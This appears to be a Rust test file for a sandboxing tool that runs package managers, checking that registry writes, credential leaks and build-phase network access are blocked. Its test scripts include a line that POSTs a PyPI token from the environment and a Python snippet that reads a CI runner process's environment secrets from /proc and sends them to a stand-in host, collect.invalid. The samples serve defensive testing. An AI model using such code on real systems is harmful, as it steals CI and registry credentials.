//! The registry of a package manager is read and no more, and gone when everything was fetched.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use super::project::{Done, Project};

/// A registry that answers everything with `200`, and keeps what it was asked.
fn registry() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let kept = asked.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (mut stream, kept) = (stream.expect("a connection"), kept.clone());
            std::thread::spawn(move || {
                let mut bytes = [0; 16 << 10];
                while let Ok(length @ 1..) = stream.read(&mut bytes) {
                    let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
                    kept.lock().expect("kept").push(text);
                    let answer = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: 5\r\n\r\nhello";
                    if stream.write_all(answer.as_bytes()).is_err() {
                        return;
                    }
                }
            });
        }
    });
    (port, asked)
}

const ASK: &str = r#"
import http.client, os, sys
def ask(*calls):
    c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
    for method, path, body, headers in calls:
        try:
            c.request(method, path, body, headers); r = c.getresponse(); print(method, r.status, r.read()[:60])
        except OSError as e: print(method, "broken off")
print(os.environ.get("PIP_INDEX_URL"))
ask(("GET", "/simple/a/", None, {}), ("HEAD", "/simple/b/", None, {}))
ask(("PUT", "/legacy/", b"x" * 100, {}))
ask(("GET", "/simple/c/", b"body", {}))
ask(("GET", "/simple/d/", None, {}), ("POST", "/legacy/", os.environ["TWINE_PASSWORD"], {}))
"#;

#[test]
fn a_registry_is_read_with_credentials_that_stay_outside_and_nothing_is_published() {
    let (port, asked) = registry();
    let project = Project::new();
    project.write("ask.py", &ASK.replace("PORT", &port.to_string()));
    let output = project
        .command(&["--policy", "pip"], "/usr/bin/python3 ask.py")
        .env(
            "PIP_INDEX_URL",
            format!("http://me:pass%77ord@127.0.0.1:{port}/simple/"),
        )
        .output()
        .expect("the binary starts");
    let run = Done::of(&output);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines[0],
        format!("http://127.0.0.1:{port}/simple/"),
        "{run:?}"
    );
    assert!(
        lines[1].starts_with("GET 200") && lines[2].starts_with("HEAD 200"),
        "{run:?}"
    );
    assert!(lines[3].starts_with("PUT 405"), "{run:?}");
    assert!(lines[4].starts_with("GET 405"), "{run:?}");
    assert!(
        lines[5].starts_with("GET 200") && lines[6] == "POST broken off",
        "{run:?}"
    );
    assert!(
        run.stderr
            .contains("a registry is only read in a run, not PUT"),
        "{run:?}"
    );
    assert!(run.stderr.contains("pypi-token sent to"), "{run:?}");
    let asked = asked.lock().expect("kept").join("\n");
    // `me:password`
    assert!(asked.contains("Basic bWU6cGFzc3dvcmQ="), "{asked}");
    assert!(
        !asked.contains("PUT") && !asked.contains("POST") && !asked.contains("body"),
        "{asked}"
    );
}

#[test]
fn a_build_finds_no_network_and_nobody_of_the_fetch() {
    let (port, asked) = registry();
    let project = Project::new();
    // a package manager of the test's: what it fetches and what it builds ask the same
    let npm = format!(
        "#!/bin/sh\necho \"$1\" >>order\nps=$(set -- /proc/[0-9]*; echo $#)\necho \"$1 $ps\" >>processes\n/usr/bin/python3 -c \"
import urllib.request as u
try: print('$1', u.urlopen('http://127.0.0.1:{port}/$1', timeout=30).status)
except Exception as e: print('$1', 'nobody')\"\nsleep 100 &\n"
    );
    let path = project.write("bin/npm", &npm);
    make_executable(&path);
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_foretaste"));
    let output = command
        .args(["run", "--commit", "--phases", "--", "bin/npm", "ci"])
        .current_dir(project.path())
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", project.home())
        .env("FORETASTE_STATE_DIR", project.top().join("state"))
        .env("npm_config_registry", format!("http://127.0.0.1:{port}/"))
        .output()
        .expect("the binary starts");
    let run = Done::of(&output);
    assert!(run.stdout.contains("ci 200"), "{run:?}");
    assert!(
        run.stdout.contains("rebuild nobody") && run.stdout.contains("run nobody"),
        "{run:?}"
    );
    let order = project.read("order").expect("applied");
    assert!(order.starts_with("ci\nrebuild\nrun\n"), "{order}");
    let processes = project.read("processes").expect("applied");
    let counts: Vec<&str> = processes
        .lines()
        .filter_map(|line| line.split_once(' '))
        .map(|(_, n)| n)
        .collect();
    assert!(
        counts.iter().all(|count| *count == counts[0]),
        "{processes}"
    );
    let asked = asked.lock().expect("kept").join("\n");
    assert!(
        asked.contains("GET /ci") && !asked.contains("GET /rebuild"),
        "{asked}"
    );
    let uv = project
        .command(&["--phases", "--policy", "uv"], "true")
        .output()
        .expect("starts");
    assert_eq!(uv.status.code(), Some(2), "{uv:?}");
}

#[test]
fn who_looks_for_a_runner_finds_a_planted_one() {
    let project = Project::new();
    let run = project.run(
        &[],
        r#"/usr/bin/python3 - <<'PY'
import glob, urllib.request as u
for path in glob.glob("/proc/[0-9]*/cmdline"):
    if open(path, "rb").read().startswith(b"/srv/actions-runner/bin/Runner.Worker"):
        secret = open(path.replace("cmdline", "environ"), "rb").read()
        print("isSecret" in secret.decode())
        u.urlopen(u.Request("http://collect.invalid/", data=secret))
PY"#,
    );
    assert!(run.stdout.contains("True"), "{run:?}");
    assert_eq!(run.code, Some(1), "{run:?}");
    assert!(run.stderr.contains("runner-token sent to"), "{run:?}");
    assert!(run.stderr.contains("process-memory"), "{run:?}");
}

fn make_executable(path: &std::path::Path) {
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(path, mode).expect("can be set");
}
